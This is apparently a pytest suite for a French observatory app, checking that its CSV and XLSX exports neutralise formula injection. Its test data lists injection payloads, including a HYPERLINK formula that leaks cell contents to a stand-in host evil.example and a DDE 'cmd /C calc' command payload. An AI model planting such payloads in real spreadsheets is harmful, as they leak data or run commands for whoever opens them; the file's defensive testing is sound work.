"""Formula injection: every CSV and XLSX the observatory writes neutralises risky text, XLSX text is
typed as strings, workbooks are built without temporary files, and the input template gives
back exactly the text it was given."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import sys
import tempfile
import tomllib
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from hostile import CATALOG, TERRITORY, import_args, row, template_files
from template_filling import fill

from example_territory import ROOT
from observatoire import commitments, export
from observatoire.areas import exports as area_exports
from observatoire.areas.ranking import rank_areas
from observatoire.cli import main
from observatoire.indicators.values import read_values
from observatoire.indicators.workbook import read_workbook
from observatoire.sheets import RISKY_STARTS, neutralise, restore
from observatoire.ui.tables import findings_rows, survey_template
from observatoire.validation.findings import make_finding

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1;"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "＝1+1", "＋1", "－1+1", "＠SUM(1)", "=1+1"]


def _risky(text: str) -> bool:
    """Text a spreadsheet would run as a formula (a text that is only a number is just that number)."""
    return isinstance(text, str) and text.startswith(RISKY_STARTS) and not re.fullmatch(r"[-+]?[\d.,]+(e[-+]?\d+)?", text)


@given(st.text())
def test_restore_gives_back_exactly_what_neutralise_was_given(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(RISKY_STARTS) or neutralise(text) == text  # only numbers keep a sign


@pytest.mark.parametrize("attack", ATTACKS)
def test_risky_text_is_prefixed_and_numbers_are_not(attack):
    assert neutralise(attack) == "'" + attack
    assert [neutralise(v) for v in ("-5", "-12,5", "+3.5", "1e-3", -5, -2.5, "abc")] == ["-5", "-12,5", "+3.5", "1e-3", -5, -2.5, "abc"]
    assert neutralise("'déjà cité'") == "''déjà cité'"  # an apostrophe of the user's is never taken for ours


def _csv_cells(data: bytes, sep: str = ";") -> list[str]:
    return [cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=sep) for cell in line]


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line if cell.value is not None]


def _assert_safe_xlsx(data: bytes, attacks=ATTACKS) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _risky(t)]
    for attack in attacks:
        assert "'" + attack.replace("\r", "\n") in texts  # XML reads a raw CR as a line feed
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets


def _attack_table(n: int = len(ATTACKS)) -> pd.DataFrame:
    return pd.DataFrame({"nom": ATTACKS[:n], "valeur": [-5.0 - i for i in range(n)]})


def test_export_csv_and_xlsx_neutralise_text_and_keep_negative_numbers():
    table = _attack_table()
    cells = _csv_cells(export.csv_bytes(table))
    assert [c for c in cells if c.startswith("'")] == ["'" + a for a in ATTACKS]
    assert "-5,0" in cells and not [c for c in cells if _risky(c) and not c.replace(",", "").lstrip("-").isdigit()]
    data = export.xlsx_bytes({"Table": table}, notes=["=cmd|' /C calc'!A0"], demo="=démonstration")
    _assert_safe_xlsx(data, [*ATTACKS, "=cmd|' /C calc'!A0"])
    numbers = [c.value for c in _xlsx_cells(data) if c.data_type == "n"]
    assert -5.0 in numbers  # a genuine negative number stays a number


def test_commitment_exports_are_safe(demo_results):
    progress = demo_results.progress.copy()
    progress.loc[progress.index[0], "title"] = ATTACKS[0]
    progress.loc[progress.index[1], "reason"] = ATTACKS[1]
    _assert_safe_xlsx(commitments.progress_xlsx(progress), ATTACKS[:2])
    row = progress.iloc[0].to_dict()
    series = pd.DataFrame({"year": [2022, 2023], "value": [-1.5, 2.0], "source": [ATTACKS[2], ATTACKS[3]]})
    _assert_safe_xlsx(commitments.detail_xlsx(row, series), [ATTACKS[0], ATTACKS[2], ATTACKS[3]])


def test_targeting_list_exports_are_safe(demo_results):
    ranked = rank_areas(demo_results.areas, n_draws=100, settings=demo_results.settings).head(5)
    geography = demo_results.geography  # names in exports come from the territory's contours
    iris = geography.iris.assign(name=geography.iris["name"].where(geography.iris["code"] != ranked.loc[0, "domain"], ATTACKS[0]))
    communes = geography.communes.assign(
        name=geography.communes["name"].where(geography.communes["code"] != ranked.loc[1, "commune"], ATTACKS[4]))
    hostile = dataclasses.replace(geography, iris=iris, communes=communes)
    assert {"'" + ATTACKS[0], "'" + ATTACKS[4]} <= set(_csv_cells(area_exports.list_csv(ranked, hostile, demo_results.settings)))
    _assert_safe_xlsx(area_exports.list_xlsx(ranked, hostile, demo_results.settings), [ATTACKS[0], ATTACKS[4]])


def test_open_data_and_survey_template_are_safe():
    from observatoire.site.opendata import _csv

    assert _csv_cells(_csv(_attack_table(3)), ",")[2:5:2] == ["'" + ATTACKS[0], "'" + ATTACKS[1]]
    assert _csv_cells(survey_template(["respondent_id", "=1+1"])) == ["respondent_id", "'=1+1"]


def test_validation_report_download_is_safe_and_the_built_in_export_is_off():
    attack = ATTACKS[0] + " " * 100
    findings = [make_finding("unknown_commune", "f.csv", 2, "commune", attack, n_communes=28,
                             example_code="00001", example_name="Valmont")]
    data = export.csv_bytes(findings_rows(findings))
    cells = _csv_cells(data)
    assert "'" + attack[:79] + "…" in cells  # echoed value, cut and neutralised
    assert not [c for c in cells if c.startswith("=")]
    # st.dataframe's own CSV button writes cells as they are: it is switched off.
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_template_round_trip_keeps_formula_text_as_typed(tmp_path):
    files = template_files(tmp_path, [row("TST01", 2021, 40.0, source=ATTACKS[0]), row("TST02", 2021, 12.0, source="'cité'")])
    cells = {c.value for c in _xlsx_cells(files["template"].read_bytes())}
    assert "'" + ATTACKS[0] in cells and "''cité'" in cells
    _assert_safe_xlsx(files["template"].read_bytes(), [ATTACKS[0]])
    # re-importing the untouched template changes nothing: the prefix is removed exactly
    incoming = read_workbook(files["template"], CATALOG, TERRITORY)
    assert sorted(incoming["source"]) == sorted([ATTACKS[0], "'cité'"])
    assert main(import_args(files, files["template"], "--yes")) == 0
    assert not (tmp_path / "history.csv").exists()
    # a service types a formula-looking source: it is kept as text, and exported neutralised
    filled = fill(files["template"], tmp_path / "rempli.xlsx", [["TST01", 2022, None, None, None, 41, None, None, None,
                                                                 "-> voir le bilan", "définitive"]])
    assert main(import_args(files, filled, "--yes")) == 0
    assert "-> voir le bilan" in set(read_values(files["values"])["source"])


_OPENED: list[str] = []
_WATCHED: list[str] = []


def _audit(event: str, args: tuple) -> None:
    """Every file the process opens under a watched folder (Python's `open` audit event)."""
    if event == "open" and _WATCHED and isinstance(args[0], str) and args[0].startswith(_WATCHED[0]):
        _OPENED.append(args[0])


sys.addaudithook(_audit)


def test_workbooks_are_built_without_temporary_files(tmp_path, monkeypatch, demo_results):
    spool = tmp_path / "tmp"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    _WATCHED[:] = [str(spool)]
    try:
        export.xlsx_bytes({"Table": _attack_table()})
        commitments.progress_xlsx(demo_results.progress)
        area_exports.list_xlsx(rank_areas(demo_results.areas, n_draws=100, settings=demo_results.settings).head(5),
                               demo_results.geography, demo_results.settings)
        template_files(tmp_path)
        assert _OPENED == []
        openpyxl.Workbook().save(io.BytesIO())  # openpyxl's own save goes through a temporary file
        assert [name for name in _OPENED if "openpyxl." in name], "the audit hook must see what it looks for"
    finally:
        _WATCHED.clear()
        _OPENED.clear()
